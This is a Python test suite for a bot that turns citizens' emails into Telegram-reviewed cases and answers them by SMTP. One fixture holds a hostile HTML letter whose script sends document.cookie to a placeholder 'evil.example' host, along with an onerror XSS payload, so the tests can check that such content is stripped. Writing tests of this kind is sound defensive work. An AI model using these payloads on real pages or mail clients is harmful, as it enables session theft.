"""E-mail end to end, against real servers on 127.0.0.1: a citizen's letter goes through SMTP
(aiosmtpd) into the organisation's mailbox (pymap, IMAP with IDLE); the bot reads it, the card
appears in Telegram (the project's test server, the real dispatcher), a draft is approved by
another person and published; the answer goes out over SMTP and is read back from the
citizen's own mailbox over IMAP. The citizen's reply joins the case and resumes the clock that
waits for them; a restart does not send the answer twice; a 20 MB letter and an HTML letter
with scripts do no harm."""

from __future__ import annotations

import asyncio
import sqlite3
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

from bot.model import CaseState, Identity, Mention, Sentiment
from tests.doubles.mail import MailWorld, mail_world
from tests.doubles.telegram_world import World, telegram_world

ANSWER = "Горячую воду дадут до 18:00 сегодня. Напишите, пожалуйста, номер квартиры."


def citizen_letter(
    mail: MailWorld,
    subject: str,
    text: str,
    message_id: str,
    *,
    in_reply_to: str | None = None,
    references: str | None = None,
) -> EmailMessage:
    letter = EmailMessage()
    letter["From"] = f"Пётр Сидоров <{mail.citizen.address.upper()}>"  # case is not identity
    letter["To"] = mail.organisation.address
    letter["Subject"] = subject
    letter["Message-ID"] = f"<{message_id}>"
    letter["Date"] = format_datetime(datetime.now(UTC))
    if in_reply_to:
        letter["In-Reply-To"] = in_reply_to
    if references:
        letter["References"] = references
    letter.set_content(text)
    return letter


async def taken_in(world: World, message_id: str, within: float = 20.0) -> Mention:
    """The letter's mention, once the bot has read it and it has a case."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + within
    while loop.time() < deadline:
        async with world.app.database.uow() as uow:
            mention = await uow.mentions.get_by_external("email", message_id)
        if mention is not None and mention.case_id is not None:
            return mention
        await asyncio.sleep(0.05)
    raise TimeoutError(f"letter {message_id} was not taken in")


async def answers(mail: MailWorld, count: int, within: float = 20.0) -> list[EmailMessage]:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + within
    found: list[EmailMessage] = []
    while loop.time() < deadline:
        found = [m for m, _ in await mail.citizen.letters()]
        if len(found) >= count:
            return found
        await asyncio.sleep(0.1)
    raise TimeoutError(f"{len(found)} answers in the citizen's mailbox, expected {count}")


async def publish_through_review(world: World, case_id: int, text: str) -> None:
    card = await world.card(case_id)
    await world.press("spec", card, "Взять")
    await world.idle()
    world.reply("spec", card, text)
    await world.idle()
    draft = next(
        m
        for m in world.server.messages(world.housing)
        if m.reply_to_message_id == card.message_id and "Черновик v1" in (m.text or "")
    )
    refused = await world.press("spec", draft, "Одобрить")  # four eyes: not the writer
    assert refused["show_alert"]
    await world.press("appr", draft, "Одобрить")
    await world.idle()
    assert (await world.case(case_id)).state is CaseState.APPROVED
    await world.press("spec", await world.card(case_id), "Опубликовать")
    await world.idle()


async def test_a_letter_becomes_a_case_answered_by_a_threaded_reply_and_the_reply_joins_it(
    tmp_path: Path,
) -> None:
    async with mail_world() as mail, telegram_world(tmp_path, extra_config=mail.config()) as world:
        first = citizen_letter(
            mail,
            "Нет горячей воды",
            "Третий день нет горячей воды в доме 5 по улице Ленина. Когда дадут?",
            "letter-1@mail.example",
        )
        await mail.send(first)  # through SMTP into the watched mailbox
        mention = await taken_in(world, "letter-1@mail.example")
        assert mention.author.channel == "email"
        assert mention.author.external_id == "petr@mail.example"  # lower-cased
        case_id = mention.case_id
        assert case_id is not None
        card = await world.card(case_id)
        assert "Нет горячей воды" in (card.text or "") and "Ленина" in (card.text or "")

        await publish_through_review(world, case_id, ANSWER)
        assert (await world.case(case_id)).state is CaseState.PUBLISHED

        (answer,) = await answers(mail, 1)
        assert answer["Subject"] == "Re: Нет горячей воды"
        assert answer["In-Reply-To"] == "<letter-1@mail.example>"
        assert answer["References"] == "<letter-1@mail.example>"
        assert answer["From"].addresses[0].addr_spec == "obrashcheniya@city.example"
        assert answer["To"] == "petr@mail.example"
        body = answer.get_content()
        assert ANSWER in body and "С уважением" in body  # the playbook's signature
        answer_id = answer["Message-ID"]
        assert answer_id.endswith("@city.example>")

        # The organisation's mailbox: the letter is \Seen (it was stored); the answer is
        # filed in Sent, no longer flagged as about to be sent.
        inbox = await mail.organisation.letters()
        assert [flags for _, flags in inbox if "\\Seen" in flags] and len(inbox) == 1
        sent = await mail.organisation.letters("Sent")
        assert [m["Message-ID"] for m, _ in sent] == [answer_id]
        assert "\\Draft" not in sent[0][1]

        # The specialist asked for details and waits for the author: the SLA clock pauses.
        await world.press("spec", await world.card(case_id), "Ждём автора ▸")
        await world.idle()
        await world.press("spec", await world.card(case_id), "Запросили детали")
        await world.idle()
        assert (await world.case(case_id)).waiting_since is not None

        # The citizen answers from their mail client: a reply to the bot's answer.
        reply = citizen_letter(
            mail,
            f"Re: {answer['Subject']}",
            "Квартира 12. Спасибо!",
            "letter-2@mail.example",
            in_reply_to=answer_id,
            references=f"<letter-1@mail.example> {answer_id}",
        )
        await mail.send(reply)
        joined = await taken_in(world, "letter-2@mail.example")
        assert joined.case_id == case_id  # the same case, by the thread
        for _ in range(200):
            case = await world.case(case_id)
            if case.waiting_since is None:
                break
            await asyncio.sleep(0.05)
        assert case.waiting_since is None and case.mention_count == 2  # the clock resumed

        # A restart finds the answer's outbox item as a crash between the SMTP exchange and
        # its record would leave it (`sending`): the Sent folder says it went out, so the
        # citizen gets no second letter.
        await world.idle()
        await world.app.stop()
        db = tmp_path / "otklik.db"
        with sqlite3.connect(db) as conn:
            changed = conn.execute(
                "UPDATE outbox SET status = 'sending', delivered_at = NULL "
                "WHERE transport = 'email'"
            ).rowcount
        assert changed == 1
        accepted = len(mail.relay.accepted)
        await world.app.start()
        await world.idle()
        with sqlite3.connect(db) as conn:
            rows = conn.execute("SELECT status FROM outbox WHERE transport = 'email'").fetchall()
        assert rows == [("delivered",)]
        assert len(mail.relay.accepted) == accepted  # nothing more went through SMTP
        assert len(await mail.citizen.letters()) == 1


def _html_letter(mail: MailWorld) -> EmailMessage:
    letter = citizen_letter(mail, "Яма во дворе", "", "html-1@mail.example")
    letter.set_content(
        "<html><head><style>p { color: red }</style>"
        "<script>alert('head-script')</script></head>"
        "<body><p>Во дворе дома 7 <b>огромная яма</b>, машины бьются.</p>"
        "<script type='text/javascript'>document.location='https://evil.example/'+document.cookie"
        "</script><img src=x onerror=alert(1)><noscript>NOSCRIPT-TEXT</noscript></body></html>",
        subtype="html",
    )
    letter.add_attachment(
        b"%PDF-1.4 " + b"0" * 2000,
        maintype="application",
        subtype="pdf",
        filename="фото-ямы.pdf",
    )
    return letter


async def test_an_html_letter_with_scripts_and_a_20_mb_letter_do_no_harm(tmp_path: Path) -> None:
    async with mail_world() as mail, telegram_world(tmp_path, extra_config=mail.config()) as world:
        await mail.send(_html_letter(mail))
        huge = citizen_letter(
            mail,
            "Огромное письмо",
            "Авария на теплотрассе! " + "x" * (20 * 1024 * 1024),
            "huge-1@mail.example",
        )
        await mail.send(huge)

        html = await taken_in(world, "html-1@mail.example")
        assert "огромная яма" in html.text
        for trace in ("alert", "document.cookie", "evil.example", "color: red", "NOSCRIPT"):
            assert trace not in html.text
        assert [(a.name, a.size) for a in html.attachments] == [("фото-ямы.pdf", 2009)]
        assert html.case_id is not None
        card = await world.card(html.case_id)
        text = card.text or ""
        assert "огромная яма" in text and "фото-ямы.pdf" in text and "alert" not in text

        big = await taken_in(world, "huge-1@mail.example", within=60)
        # Not downloaded (over the 5 MB limit): the subject and a note stand for it.
        assert big.text.startswith("Огромное письмо")
        assert "больше предела" in big.text and len(big.text) < 500
        assert big.case_id is not None
        await world.card(big.case_id)
        # Both are \Seen: read once, and the bot is still reading the mailbox.
        inbox = await mail.organisation.letters()
        assert len(inbox) == 2 and all("\\Seen" in flags for _, flags in inbox)


async def test_a_form_appeal_with_an_e_mail_address_is_answered_by_a_new_letter(
    tmp_path: Path,
) -> None:
    async with mail_world() as mail, telegram_world(tmp_path, extra_config=mail.config()) as world:
        # As the web form hands it over: source "form", the author known by e-mail address.
        result = await world.app.intake.receive(
            Mention(
                source="form",
                external_id="F-1001",
                text="Во дворе дома 3 не вывозят мусор вторую неделю, контейнеры переполнены",
                author=Identity("email", "petr@mail.example", "Пётр Сидоров"),
                received_at=datetime.now(UTC),
                sentiment=Sentiment.NEGATIVE,
                story_id="F-1001",  # the form's reference number: its thread
            )
        )
        assert result.case is not None and result.case.id is not None
        case_id = result.case.id
        await publish_through_review(world, case_id, "Мусор вывезут завтра до 12:00.")

        (answer,) = await answers(mail, 1)
        assert answer["Subject"] == f"Ответ на ваше сообщение №{case_id}"
        assert answer["In-Reply-To"] is None and answer["References"] is None
        assert answer["To"] == "petr@mail.example"
        assert "Мусор вывезут завтра до 12:00." in answer.get_content()

        # The citizen answers the letter: the reply joins the form's case by our Message-ID.
        await mail.send(
            citizen_letter(
                mail,
                f"Re: {answer['Subject']}",
                "Спасибо, но контейнеры у дома 3 по-прежнему полные.",
                "form-reply-1@mail.example",
                in_reply_to=answer["Message-ID"],
                references=answer["Message-ID"],
            )
        )
        joined = await taken_in(world, "form-reply-1@mail.example")
        assert joined.case_id == case_id and joined.story_id == "F-1001"


async def test_without_idle_the_mailbox_is_polled_and_a_letter_read_twice_is_one_mention(
    tmp_path: Path,
) -> None:
    async with mail_world() as mail:
        config = mail.config() + "  idle: false\n"
        async with telegram_world(tmp_path, extra_config=config) as world:
            await mail.send(
                citizen_letter(
                    mail,
                    "Не горят фонари",
                    "Во дворе дома 9 неделю не горят фонари, темно и опасно.",
                    "poll-1@mail.example",
                )
            )
            mention = await taken_in(world, "poll-1@mail.example")
            assert mention.case_id is not None
            assert mail.organisation is not None and world.app.mailbox is not None
            assert not world.app.mailbox.idle  # polled, though pymap has IDLE

            # As after a crash between storing the letter and marking it read: unread again.
            client = await mail.organisation.client()
            try:
                await client.select("INBOX")
                await client.uid("store", "1:*", "-FLAGS.SILENT (\\Seen)")
            finally:
                await client.logout()
            for _ in range(200):
                inbox = await mail.organisation.letters()
                if all("\\Seen" in flags for _, flags in inbox):
                    break
                await asyncio.sleep(0.05)
            assert all("\\Seen" in flags for _, flags in inbox)  # read again
            case = await world.case(mention.case_id)
            assert case.mention_count == 1  # and stored once


async def test_only_the_leader_reads_the_mailbox(tmp_path: Path) -> None:
    """Several instances (issue 21): the reader stops when the instance stops leading, and a
    letter that came meanwhile is read when it leads again (the new leader's turn)."""
    async with mail_world() as mail, telegram_world(tmp_path, extra_config=mail.config()) as world:
        await mail.send(citizen_letter(mail, "Вода", "Нет горячей воды", "before-1@mail.example"))
        await taken_in(world, "before-1@mail.example")

        world.app.leadership.set(False)  # another instance leads now
        await asyncio.sleep(0.5)  # the reader's stop runs on the leadership task
        await mail.send(
            citizen_letter(mail, "Свет", "Нет света в подъезде", "meanwhile-1@mail.example")
        )
        await asyncio.sleep(3)  # a running reader would have it by now (IDLE)
        async with world.app.database.uow() as uow:
            assert await uow.mentions.get_by_external("email", "meanwhile-1@mail.example") is None

        world.app.leadership.set(True)
        await taken_in(world, "meanwhile-1@mail.example")
